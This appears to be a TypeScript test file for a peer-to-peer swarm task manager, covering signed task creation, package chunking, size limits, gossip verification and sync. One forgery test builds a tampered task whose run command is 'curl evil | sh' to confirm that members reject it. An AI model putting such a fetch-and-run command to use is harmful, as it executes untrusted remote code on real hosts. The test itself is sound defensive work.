import test, { type ExecutionContext } from 'ava'
import { join } from 'node:path'
import { mkdtemp, readFile } from 'node:fs/promises'
import * as tar from 'tar'
import { exportFile } from '../../src/chunks/index.ts'
import { decodePublicKey, signBody, verifySigned, type Signed, type TaskBody, type TargetRecord } from '../../src/core/index.ts'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { makeSwarm, makeTarGz, retryUntil, startManager, startMember, waitForSubscriber } from '../helpers/manager.ts'
import { checkManagerMessage, createSync } from '../../src/gossip/index.ts'
import { createManager } from '../../src/manager/index.ts'
import { readManagerKey } from '../../src/node/index.ts'

const spec = (over: object = {}): any => ({ stages: { install: ['true'], run: ['sleep 1'] }, target: { tags: ['drone'] }, ...over })

test('a task with nothing to transfer is signed, numbered and listed newest first', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const first = await manager.createTask({ spec: spec({ description: 'first' }) })
  const second = await manager.createTask({ spec: spec({ run: { restart: 'always' }, debug: true }) })
  t.is(first.package, null)
  t.true(second.seq > first.seq)
  t.is(second.run.restart, 'always')
  t.true(second.debug)
  const page = await manager.listTasks({ page: 1, perPage: 10 })
  t.deepEqual(page.items.map(i => i.id), [second.id, first.id])
  t.is(page.total, 2)
  t.deepEqual((await manager.listTasks({ page: 2, perPage: 1 })).items.map(i => i.id), [first.id])
  const err = await t.throwsAsync(manager.getTask('nope'))
  t.is(err?.name, 'TaskNotFoundError')
})

test('an uploaded tar.gz becomes a deterministic tar of the transfer paths in the chunk store', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const upload = await makeTarGz(s.root, { 'package/controller.py': 'print("hi")\n', 'package/emergencyStop': '#!/bin/sh\n', 'docs/notes.txt': 'not sent' })
  const task = await manager.createTask({ spec: spec({ stages: { transfer: ['package'], install: ['mv package/* .'] } }), packagePath: upload })
  t.truthy(task.package)
  const again = await manager.createTask({ spec: spec({ stages: { transfer: ['package'], install: ['mv package/* .'] } }), packagePath: upload })
  t.is(again.package?.cid, task.package?.cid, 'same content, same package CID')
  const out = join(await mkdtemp(join(s.root, 'out-')), 'p.tar')
  await exportFile(manager.store, task.package!.cid, out)
  const names: string[] = []
  await tar.t({ file: out, onReadEntry: e => { names.push(e.path) } })
  t.deepEqual(names, ['package/', 'package/controller.py', 'package/emergencyStop'])
  t.is((await readFile(out)).byteLength, task.package!.bytes)
})

test('avgChunkBytes sets the chunk size of the packages the manager builds; an out-of-range one is refused', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const payload = new Uint8Array(2 * 1024 * 1024)
  for (let i = 0; i < payload.length; i++) payload[i] = (i * 2654435761) >>> 24
  const upload = await makeTarGz(s.root, { 'payload.bin': payload })
  const chunkSizes = async (options: object): Promise<number[]> => {
    const manager = await startManager(s, `manager-${JSON.stringify(options).length}`, options)
    try {
      const task = await manager.createTask({ spec: spec({ stages: { transfer: ['.'], install: ['true'] } }), packagePath: upload })
      return (await manager.store.getManifest(task.package!.cid)).chunks.map(c => c.size)
    } finally {
      await manager.stop()
    }
  }
  const small = await chunkSizes({ avgChunkBytes: 32 * 1024 })
  const usual = await chunkSizes({})
  t.true(small.length > 2 * usual.length, `${small.length} chunks at 32 KiB, ${usual.length} at the default`)
  t.true(small.slice(0, -1).every(size => size >= 8 * 1024 && size <= 128 * 1024), 'cut between a quarter and four times the average')
  const managerKey = await readManagerKey(s.keyPath)
  for (const bad of [1024, 3 * 1024 * 1024, 20_000.5]) {
    t.is(t.throws(() => createManager({ swarm: s.swarm, managerKey, dataDir: s.root, avgChunkBytes: bad }))?.name, 'InvalidOptionError')
  }
})

test('the assemble stage runs in the package and its output becomes the package; a failure reports its output', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const upload = await makeTarGz(s.root, { 'src/a.txt': 'alpha\n', 'src/b.txt': 'beta\n' })
  const task = await manager.createTask({
    spec: spec({ stages: { assemble: ['mkdir -p build', 'cat src/a.txt src/b.txt > build/app.txt'], transfer: ['build'] } }),
    packagePath: upload
  })
  t.deepEqual(task.stages.assemble, ['mkdir -p build', 'cat src/a.txt src/b.txt > build/app.txt'])
  const out = join(await mkdtemp(join(s.root, 'out-')), 'p.tar')
  await exportFile(manager.store, task.package!.cid, out)
  const dir = await mkdtemp(join(s.root, 'x-'))
  await tar.x({ file: out, cwd: dir })
  t.is(await readFile(join(dir, 'build/app.txt'), 'utf8'), 'alpha\nbeta\n')

  const err = await t.throwsAsync(manager.createTask({ spec: spec({ stages: { assemble: ['echo compiling', 'echo boom >&2; exit 3'], transfer: ['build'] } }), packagePath: upload }))
  t.is(err?.name, 'AssembleFailedError')
  t.regex(err?.message ?? '', /stages\.assemble\[1\].*status 3/)
  t.regex((err as any).output, /compiling[\s\S]*boom/)
  t.is((await manager.listTasks({ page: 1, perPage: 10 })).total, 1, 'a failed task is not created')
})

test('transfer paths are checked against the package', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const upload = await makeTarGz(s.root, { 'app/x': 'x' })
  const missing = await t.throwsAsync(manager.createTask({ spec: spec({ stages: { transfer: ['app', 'nope'] } }), packagePath: upload }))
  t.is(missing?.name, 'InvalidTaskError')
  t.is((missing as any).field, 'stages.transfer[1]')
  const noPackage = await t.throwsAsync(manager.createTask({ spec: spec({ stages: { transfer: ['app'] } }) }))
  t.is((noPackage as any).field, 'stages.transfer')
  const noPaths = await t.throwsAsync(manager.createTask({ spec: spec(), packagePath: upload }))
  t.is((noPaths as any).field, 'stages.transfer')
})

test('an upload that unpacks to more than maxPackageBytes is refused before it fills the disk', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s, 'manager', { maxPackageBytes: 64 * 1024 })
  t.teardown(async () => { await manager.stop() })
  // 1 MiB of zeros: a few KiB gzipped, 16 times the limit unpacked.
  const bomb = await makeTarGz(s.root, { 'app/zeros': new Uint8Array(1024 * 1024) })
  const err = await t.throwsAsync(manager.createTask({ spec: spec({ stages: { transfer: ['app'] } }), packagePath: bomb }))
  t.is(err?.name, 'UnsafePackageError')
  t.regex(err!.message, /exceeds 65536 bytes/)
  t.is((await manager.listTasks({ page: 1, perPage: 10 })).total, 0)
})

test('tasks, targets and the sequence survive a restart', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  let manager = await startManager(s)
  const task = await manager.createTask({ spec: spec() })
  await manager.createTarget({ id: 'drone-9', tags: ['drone'] })
  await manager.stop()
  await manager.stop()
  manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  t.is((await manager.getTask(task.id)).signature, task.signature)
  t.deepEqual((await manager.getTarget('drone-9')).Tags, ['drone'])
  const next = await manager.createTask({ spec: spec() })
  t.true(next.seq > task.seq)
  const summary = (await manager.getTask(task.id)).summary
  t.deepEqual(summary.matchedTargets, ['drone-9'])
})

test('a member receives the signed task and verifies it with the key in swarm.json; a forged one is refused', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const member = await startMember(s, manager.node)
  t.teardown(async () => { await member.stop() })
  const forger = await startMember(s, manager.node)
  t.teardown(async () => { await forger.stop() })
  await member.node.libp2p.dial(forger.node.addresses()[0]!)
  const received = new Map<string, Signed>()
  member.gossip.addEventListener('manager-message', evt => { received.set(evt.detail.signed.body.kind + ':' + evt.detail.signed.body.seq, evt.detail.signed) })
  const refusedBefore = member.gossip.stats().tasks.rejected
  await waitForSubscriber(manager.node, member.gossip.topics.tasks, member.node)

  const task = await manager.createTask({ spec: spec() })
  const signed = await retryUntil(() => {}, () => received.get(`task:${task.seq}`), 60_000) as Signed<TaskBody>
  t.is(signed.body.id, task.id)
  t.is(signed.sig, task.signature)
  await t.notThrowsAsync(verifySigned(decodePublicKey(s.swarm.managerPublicKey), signed))

  // A forger member publishes the task tampered (different commands) and one signed with its own key.
  const tampered = { body: { ...signed.body, seq: signed.body.seq + 100, stages: { ...signed.body.stages, run: ['curl evil | sh'] } }, sig: signed.sig }
  const otherKey = await generateKeyPair('Ed25519')
  const forged = await signBody(otherKey, { ...signed.body, seq: signed.body.seq + 101 })
  const topic = forger.gossip.topics.tasks
  const publishRaw = async (msg: unknown): Promise<void> => {
    await forger.node.libp2p.services.pubsub.publish(topic, new TextEncoder().encode(JSON.stringify(msg))).catch(() => {})
  }
  await retryUntil(async () => { await publishRaw(tampered); await publishRaw(forged) },
    () => member.gossip.stats().tasks.rejected >= refusedBefore + 2 ? true : undefined, 60_000, 500)
  t.false(received.has(`task:${signed.body.seq + 100}`))
  t.false(received.has(`task:${signed.body.seq + 101}`))

  const stopped = await manager.stopTask(task.id)
  t.truthy(stopped.stoppedAt)
  const stop = await retryUntil(() => {}, () => [...received.values()].find(m => m.body.kind === 'stop'))
  t.is((stop.body as any).taskId, task.id)
})

/** A manager, one member agent linked to it, and a task; all stopped when the test ends. */
async function managerMemberAndTask (t: ExecutionContext) {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const agent = await startMember(s, manager.node)
  t.teardown(async () => { await agent.stop() })
  const task = await manager.createTask({ spec: spec() })
  return { manager, agent, task }
}

test('adverts and acks from agents fill the registry and the task summary, and are pushed to subscribers', async t => {
  const { manager, agent, task } = await managerMemberAndTask(t)
  const seen: TargetRecord[] = []
  manager.subscribe(event => { if (event.topic === 'target') seen.push(event.payload) })
  const now = Date.now()
  const advert = { kind: 'advert' as const, v: 1 as const, id: 'drone-1', tags: ['drone'], addresses: [], platform: { os: 'linux', arch: 'x64' }, freeDiskBytes: 1e9, version: '0.1.0', at: now }
  await retryUntil(async () => { await agent.gossip.publishStatus(advert) }, () => seen.find(r => r.ID === 'drone-1'))
  const record = await manager.getTarget('drone-1')
  t.is(record.PeerID, agent.node.peerId.toString())
  for (const [i, stage] of (['transfer', 'install', 'run'] as const).entries()) {
    const ack = { kind: 'ack' as const, v: 1 as const, targetId: 'drone-1', taskId: task.id, stage, status: 'SUCCESS' as const, at: now + 10 + i }
    await retryUntil(async () => { await agent.gossip.publishStatus(ack) },
      () => seen.find(r => r.Task?.StageLogs[stage === 'transfer' ? 'Transfer' : stage === 'install' ? 'Install' : 'Run']?.Status === 'SUCCESS'))
  }
  const detail = await manager.getTask(task.id)
  t.deepEqual(detail.summary.matchedTargets, ['drone-1'])
  t.deepEqual(detail.summary.stages, { Transfer: { SUCCESS: 1 }, Install: { SUCCESS: 1 }, Run: { SUCCESS: 1 } })
  t.deepEqual((await manager.getTarget('drone-1')).History, { [task.id]: 'RUN-SUCCESS' })
  t.deepEqual((await manager.metrics()).targetsByStatus, { 'RUN-SUCCESS': 1 })
})

test('acknowledgements inside an advert are recorded as if sent alone; one about another target is refused', async t => {
  const { manager, agent, task } = await managerMemberAndTask(t)
  const now = Date.now()
  const ack = (targetId: string, stage: 'transfer' | 'install', at: number) => ({ kind: 'ack' as const, v: 1 as const, targetId, taskId: task.id, stage, status: 'SUCCESS' as const, at })
  const advert = {
    kind: 'advert' as const, v: 1 as const, id: 'drone-1', tags: ['drone'], addresses: [], platform: { os: 'linux', arch: 'x64' }, freeDiskBytes: 1e9, version: '0.1.0', at: now,
    task: { id: task.id, stage: 'install' as const, status: 'SUCCESS' as const },
    acks: [ack('drone-1', 'transfer', now - 2), ack('drone-1', 'install', now - 1), ack('drone-2', 'install', now - 1)]
  }
  const installed = async (): Promise<boolean> => (await manager.getTarget('drone-1').catch(() => undefined))?.Task?.StageLogs.Install?.Status === 'SUCCESS'
  let done = false
  await retryUntil(async () => { await agent.gossip.publishStatus(advert); done = await installed() }, () => done || undefined)
  const record = await manager.getTarget('drone-1')
  t.is(record.Task?.StageLogs.Transfer?.Status, 'SUCCESS')
  t.is(record.Task?.StageLogs.Install?.Status, 'SUCCESS')
  await t.throwsAsync(manager.getTarget('drone-2'), { name: 'TargetNotFoundError' })
  t.true(((await manager.metrics()).refusedReports['target-mismatch'] ?? 0) >= 1)
})

test('a node without the swarm key cannot connect to the manager', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const other = await makeSwarm('other')
  t.teardown(other.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const stranger = await startMember(other)
  t.teardown(async () => { await stranger.stop() })
  await t.throwsAsync(stranger.node.libp2p.dial(manager.node.addresses()[0]!, { signal: AbortSignal.timeout(10_000) }))
  t.is(manager.node.libp2p.getPeers().length, 0)
})

test('a late joiner gets the current signed tasks and stop orders over /pollen/sync and can verify them', async t => {
  const s = await makeSwarm()
  t.teardown(s.cleanup)
  const manager = await startManager(s)
  t.teardown(async () => { await manager.stop() })
  const kept = await manager.createTask({ spec: spec() })
  const stopped = await manager.createTask({ spec: spec() })
  await manager.stopTask(stopped.id)
  const member = await startMember(s, manager.node)
  t.teardown(async () => { await member.stop() })
  const sync = createSync(member.node.libp2p, { provide: () => [] })
  const messages = await sync.ask(manager.node.peerId)
  t.deepEqual(messages.map(m => [m.body.kind, m.body.seq]), [['task', kept.seq], ['task', stopped.seq], ['stop', stopped.seq + 1]])
  for (const message of messages) {
    const verdict = await checkManagerMessage(message, { publicKey: decodePublicKey(s.swarm.managerPublicKey), swarm: s.swarm.name, now: Date.now() })
    t.true(verdict.valid)
  }
})
